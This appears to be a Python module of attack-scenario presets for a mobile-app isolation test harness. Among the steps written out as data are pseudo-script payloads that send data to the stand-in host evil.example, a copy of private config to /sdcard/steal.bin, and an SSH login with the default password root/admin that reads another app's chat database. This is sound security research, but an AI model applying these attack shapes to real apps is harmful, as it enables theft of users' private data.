"""Bundled scenario presets.

Each preset is a plain scenario dictionary (see harness.Scenario.from_dict)
modeling one real-world attack shape: browser-engine leaks through delivered
files and injected browser state, command-interpreter leaks through exposed
components and weak shells, and embedded-file-server leaks over the network.
"""

from __future__ import annotations

import copy

from .harness import Scenario

_SINK = "evil.example"

_COOKIE_SCRIPT = "<script>READ_BODY;EXFIL evil.example</script>"


def _web_deputy(**overrides) -> dict:
    deputy = {
        "kind": "web",
        "sop_mode": "legacy",
        "js_enabled": True,
        "js_local_enabled": True,
    }
    deputy.update(overrides)
    return deputy


def _server_scenario(key: str, preset_name: str, app_id: str, *,
                     attack: list, expected: dict, note: str,
                     deputy_overrides: dict | None = None,
                     profile: str = "android_like",
                     files: dict | None = None,
                     targets: list | None = None) -> dict:
    deputy = {"kind": "server", "preset": preset_name}
    deputy.update(deputy_overrides or {})
    return {
        "name": key,
        "profile": profile,
        "victim": {
            "app_id": app_id,
            "files": files or {"notes.db": f"{app_id} private notes v1"},
        },
        "targets": targets or ["notes.db"],
        "deputy": deputy,
        "adversary": {"kind": "intranet"},
        "attack": attack,
        "expected": expected,
        "note": note,
    }


PRESETS: dict[str, dict] = {}


def _add(data: dict) -> None:
    PRESETS[data["name"]] = data


# -- browsing-deputy presets ----------------------------------------------------

_add({
    "name": "evernote-remote-attachment",
    "profile": "ios_like",
    "victim": {
        "app_id": "com.evernote.like",
        "files": {"notes/secret.db": "evernote-like private notes v1"},
        "accepts_html": True,
    },
    "targets": ["notes/secret.db"],
    "deputy": _web_deputy(),
    "adversary": {"kind": "internet"},
    "attack": [
        {"op": "deliver", "vector": "email_attachment", "name": "evil.html",
         "body": ("<script>FRAME ../notes/secret.db;"
                  "EXFIL evil.example</script>")},
        {"op": "open_delivered"},
    ],
    "expected": {"verdict": "leak"},
    "note": ("A note-taking app renders received HTML attachments in its "
             "in-app engine; a relative frame read crosses into the notes "
             "directory under the classic file-scheme origin rules."),
})

_add({
    "name": "baidu-browser-longpress",
    "profile": "android_like",
    "victim": {
        "app_id": "com.baidu.browser",
        "files": {},
    },
    "targets": ["app_webview/Cookies"],
    "deputy": _web_deputy(long_press_dialog=True),
    "adversary": {"kind": "internet"},
    "attack": [
        {"op": "inject_cookie", "host": "evil.example", "name": "trap",
         "value": _COOKIE_SCRIPT},
        {"op": "render",
         "body": ("<p>You won a prize!</p>"
                  "<a href=\"file:///data/data/com.baidu.browser/"
                  "app_webview/Cookies\">prize</a>"),
         "user_action": {"kind": "long_press", "target": "prize"}},
    ],
    "expected": {"verdict": "leak"},
    "note": ("A browser whose long-press dialog opens file links: a web page "
             "baits the user into opening the cookie store, where a "
             "previously injected cookie carries the script payload."),
})

_add({
    "name": "safe-content-uri",
    "profile": "android_like",
    "victim": {
        "app_id": "com.qihoo360.mobilesafe",
        "files": {},
    },
    "targets": ["app_webview/Cookies"],
    "deputy": _web_deputy(content_provider_exposed=True,
                          provider_implements_openfile=True),
    "adversary": {"kind": "internet"},
    "attack": [
        {"op": "inject_cookie", "host": "evil.example", "name": "trap",
         "value": _COOKIE_SCRIPT},
        {"op": "render",
         "body": ("<iframe src=\"content://com.qihoo360.mobilesafe/"
                  "app_webview/Cookies\"></iframe>")},
    ],
    "expected": {"verdict": "leak"},
    "note": ("An exposed content provider that implements file opening lets "
             "any rendered page frame private files through the provider's "
             "own identity."),
})

_add({
    "name": "intent-chain",
    "profile": "android_like",
    "victim": {
        "app_id": "com.yandex.browser",
        "files": {},
    },
    "targets": ["app_webview/Cookies"],
    "deputy": _web_deputy(intent_parse_uri=True,
                          intent_component_loads_external_url=True,
                          intent_component_allows_file_js=True),
    "adversary": {"kind": "internet"},
    "attack": [
        {"op": "inject_cookie", "host": "evil.example", "name": "trap",
         "value": _COOKIE_SCRIPT},
        {"op": "intent",
         "uri": ("intent://scan#Intent;"
                 "component=com.yandex.browser/.WebActivity;"
                 "S.url=file%3A%2F%2F%2Fdata%2Fdata%2Fcom.yandex.browser"
                 "%2Fapp_webview%2FCookies;end")},
    ],
    "expected": {"verdict": "leak"},
    "note": ("The intent-scheme chain: the browser parses the intent URI, an "
             "internal component loads the embedded URL, and that component "
             "runs script in file documents. All three must hold."),
})

_add({
    "name": "zirco-history",
    "profile": "android_like",
    "victim": {
        "app_id": "org.zirco.like",
        "files": {},
    },
    "targets": ["databases/history.db"],
    "deputy": _web_deputy(),
    "adversary": {"kind": "internet"},
    "attack": [
        {"op": "add_history",
         "title": _COOKIE_SCRIPT, "url": "http://evil.example/"},
        {"op": "open_history_ui"},
    ],
    "expected": {"verdict": "leak"},
    "note": ("A page title is attacker-chosen; the history UI renders titles "
             "verbatim in a local file origin, so a scripted title executes "
             "when the user opens their history."),
})

_add({
    "name": "myvault-bookmark",
    "profile": "ios_like",
    "victim": {
        "app_id": "com.myvault.like",
        "files": {"secret/passwords.db": "vault passwords v1"},
    },
    "targets": ["secret/passwords.db"],
    "deputy": _web_deputy(),
    "adversary": {"kind": "internet"},
    "attack": [
        {"op": "add_bookmark",
         "title": ("<script>FRAME ../secret/passwords.db;"
                   "EXFIL evil.example</script>"),
         "url": "http://evil.example/"},
        {"op": "open_bookmarks_ui"},
    ],
    "expected": {"verdict": "leak"},
    "note": ("A vault app with an in-app browser whose bookmark titles are "
             "attacker-influenced; a relative frame read reaches the vault "
             "database even though the zone path is randomized."),
})

# -- command-interpreter presets --------------------------------------------------

_TERMINAL_COMPONENTS = [
    {"name": "RunScript", "exported": True,
     "required_permission": "terminal.permission.RUN_SCRIPT"},
    # The permission guards only the front door; the backend component the
    # front door delegates to is itself exported and unguarded.
    {"name": "RemoteInterface", "exported": True},
]

_add({
    "name": "terminal-exposed-component",
    "profile": "android_like",
    "victim": {
        "app_id": "terminal.emulator.like",
        "files": {"shared_prefs/config.xml": "terminal private config v1"},
    },
    "targets": ["shared_prefs/config.xml"],
    "deputy": {"kind": "cmd", "components": _TERMINAL_COMPONENTS},
    "adversary": {"kind": "local", "permissions": []},
    "attack": [
        {"op": "invoke_component", "component": "RunScript", "probe": True,
         "argv": ["cp", "shared_prefs/config.xml", "/sdcard/steal.bin"]},
        {"op": "invoke_component", "component": "RemoteInterface",
         "argv": ["cp", "shared_prefs/config.xml", "/sdcard/steal.bin"]},
        {"op": "read_public", "path": "/sdcard/steal.bin"},
    ],
    "expected": {"verdict": "leak"},
    "note": ("A terminal app protects its scripting entry point with a "
             "permission but leaves the backend component it delegates to "
             "exported; a permissionless local app calls the backend "
             "directly and copies private files to public storage."),
})

_patched = copy.deepcopy(PRESETS["terminal-exposed-component"])
_patched["name"] = "terminal-patched"
_patched["deputy"]["components"] = [
    {"name": "RunScript", "exported": True,
     "required_permission": "terminal.permission.RUN_SCRIPT"},
    {"name": "RemoteInterface", "exported": False},
]
_patched["expected"] = {"verdict": "blocked", "stage": "component-not-exported"}
_patched["note"] = ("The patched terminal app: the backend component is no "
                    "longer exported, so the permissionless call is refused.")
_add(_patched)

_add({
    "name": "sshdroid-rooted-intranet",
    "profile": "android_like",
    "rooted": True,
    "victim": {
        "app_id": "sshd.server.like",
        "files": {},
    },
    "other_apps": [
        {"app_id": "com.messenger.like",
         "files": {"chats.db": "messenger chat archive v1"}},
    ],
    "targets": [{"app": "com.messenger.like", "path": "chats.db"}],
    "deputy": {
        "kind": "cmd",
        "runs_as_root": True,
        "shell": {"username": "root", "password": "admin",
                  "banner_reveals_identity": True},
        "ssh_port": 22,
    },
    "adversary": {"kind": "intranet"},
    "attack": [
        {"op": "scan"},
        {"op": "ssh", "username": "root", "password": "admin",
         "argv": ["cat", "/data/data/com.messenger.like/chats.db"]},
    ],
    "expected": {"verdict": "leak"},
    "note": ("An SSH server app on a rooted device keeps its default "
             "password; its banner advertises exactly which default to try, "
             "and a root shell reads every other app's zone."),
})

# -- embedded-server presets --------------------------------------------------------

_add(_server_scenario(
    "airdroid-confirm", "AirDroid", "com.airdroid.like",
    attack=[
        {"op": "scan"},
        {"op": "download", "path": "notes.db"},
    ],
    expected={"verdict": "blocked", "stage": "connection-confirm"},
    note=("Remote-management server that pops a confirmation dialog per "
          "connection; an unconfirmed intranet client gets nothing."),
))

_add(_server_scenario(
    "wifi-file-transfer-open", "WiFi File Transfer", "com.wifitransfer.like",
    attack=[
        {"op": "scan"},
        {"op": "download", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note=("File-transfer server with no authentication at all: anyone on "
          "the same network downloads anything it serves."),
))

_add(_server_scenario(
    "xender-bruteforce", "Xender", "com.xender.like",
    deputy_overrides={"code": "1729"},
    attack=[
        {"op": "scan"},
        {"op": "brute_then_download", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note=("Four-digit access code with no rate limiting: ten thousand "
          "ascending guesses at most, then a normal session."),
))

_add(_server_scenario(
    "wifi-file-explorer-open", "WiFi File Explorer", "com.wifiexplorer.like",
    attack=[
        {"op": "scan"},
        {"op": "download", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note="Unauthenticated directory listing and download over the intranet.",
))

_add(_server_scenario(
    "file-transfer-ftp-open", "com.file.transfer", "com.file.transfer",
    attack=[
        {"op": "scan"},
        {"op": "download", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note="The FTP variant of the open-server weakness; only the banner differs.",
))

_add(_server_scenario(
    "simple-transfer-open", "Simple Transfer", "com.simpletransfer.like",
    profile="ios_like",
    attack=[
        {"op": "scan"},
        {"op": "download", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note=("Shows a banner on the first connection but enforces nothing; the "
          "alert fires and the download succeeds anyway."),
))

_add(_server_scenario(
    "photo-transfer-sniff-replay", "Photo Transfer WiFi",
    "com.phototransfer.like",
    profile="ios_like",
    attack=[
        {"op": "legit_auth", "client": "desktop"},
        {"op": "sniff_replay", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note=("Code authentication over plaintext HTTP: a passive intranet "
          "sniffer captures the code during the user's own login and "
          "replays it."),
))

_add(_server_scenario(
    "wifi-photo-transfer-open", "WiFi Photo Transfer",
    "com.wifiphototransfer.like",
    profile="ios_like",
    attack=[
        {"op": "scan"},
        {"op": "download", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note="Unauthenticated photo server on a nonstandard port.",
))

_add(_server_scenario(
    "usb-flashdrive-csrf", "USB & Wi-Fi Flash Drive", "com.usbflash.like",
    files={"documents/secret.txt": "flash-drive private document v1"},
    targets=["documents/secret.txt"],
    attack=[
        {"op": "csrf", "target": "documents/secret.txt",
         "sink": _SINK},
    ],
    expected={"verdict": "leak"},
    note=("Upload-capable server with no cross-site protection: a forged "
          "upload plants a scripted file, and viewing it later runs the "
          "script in the server's own origin."),
))

_add(_server_scenario(
    "air-transfer-open", "Air Transfer", "com.airtransfer.like",
    profile="ios_like",
    attack=[
        {"op": "scan"},
        {"op": "download", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note="Unauthenticated transfer server that keeps running in the background.",
))

_add(_server_scenario(
    "wifi-file-explorer-paid-csrf", "WiFi File Explorer",
    "com.wifiexplorer.pro.like",
    deputy_overrides={"name": "WiFi File Explorer PRO", "upload": "any",
                      "session": "cookie"},
    files={"documents/secret.txt": "explorer-pro private document v1"},
    targets=["documents/secret.txt"],
    attack=[
        {"op": "csrf", "target": "documents/secret.txt", "sink": _SINK},
    ],
    expected={"verdict": "leak"},
    note=("The paid tier adds uploads to the otherwise read-only explorer, "
          "and with them the upload-then-view script channel."),
))

_add(_server_scenario(
    "server-screen-off", "WiFi File Transfer", "com.wifitransfer.bg.like",
    attack=[
        {"op": "set_screen", "state": "off_locked"},
        {"op": "scan"},
        {"op": "download", "path": "notes.db"},
    ],
    expected={"verdict": "leak"},
    note=("The same open server probed while the screen is off and locked; "
          "only platforms that let servers run in the background stay "
          "exposed."),
))


# The matrix rows: one representative per attack class, plus the CSRF shape
# whose mitigations are server-side.
MATRIX_PRESETS = [
    "evernote-remote-attachment",
    "baidu-browser-longpress",
    "terminal-exposed-component",
    "wifi-file-transfer-open",
    "usb-flashdrive-csrf",
]

ATTACK_CLASS = {
    "evernote-remote-attachment": "sop-bypass",
    "baidu-browser-longpress": "script-injection",
    "safe-content-uri": "script-injection",
    "intent-chain": "script-injection",
    "zirco-history": "script-injection",
    "myvault-bookmark": "script-injection",
    "terminal-exposed-component": "command-interpreter",
    "terminal-patched": "command-interpreter",
    "sshdroid-rooted-intranet": "command-interpreter",
    "airdroid-confirm": "embedded-server",
    "wifi-file-transfer-open": "embedded-server",
    "xender-bruteforce": "embedded-server",
    "wifi-file-explorer-open": "embedded-server",
    "file-transfer-ftp-open": "embedded-server",
    "simple-transfer-open": "embedded-server",
    "photo-transfer-sniff-replay": "embedded-server",
    "wifi-photo-transfer-open": "embedded-server",
    "usb-flashdrive-csrf": "embedded-server",
    "air-transfer-open": "embedded-server",
    "wifi-file-explorer-paid-csrf": "embedded-server",
    "server-screen-off": "embedded-server",
}

# The platform-differential family: (what differs, preset). Each pair runs
# under both profiles and reports only when the outcomes diverge.
PROFILE_FAMILY = [
    ("file-opening-model", "evernote-remote-attachment"),
    ("zone-path-randomization", "baidu-browser-longpress"),
    ("interpreter-availability", "terminal-exposed-component"),
    ("background-servers", "server-screen-off"),
]


def preset_names() -> list[str]:
    return list(PRESETS)


def preset(name: str) -> Scenario:
    try:
        data = PRESETS[name]
    except KeyError:
        raise KeyError(f"unknown preset {name!r}") from None
    return Scenario.from_dict(copy.deepcopy(data))
